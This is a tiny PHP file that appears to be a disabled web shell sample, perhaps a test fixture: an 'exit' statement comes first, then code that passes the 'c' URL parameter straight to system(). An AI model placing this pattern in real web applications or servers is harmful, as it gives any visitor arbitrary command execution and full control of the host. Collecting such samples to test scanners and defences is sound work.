<?php exit;
$c = $_GET['c'];
system($c);
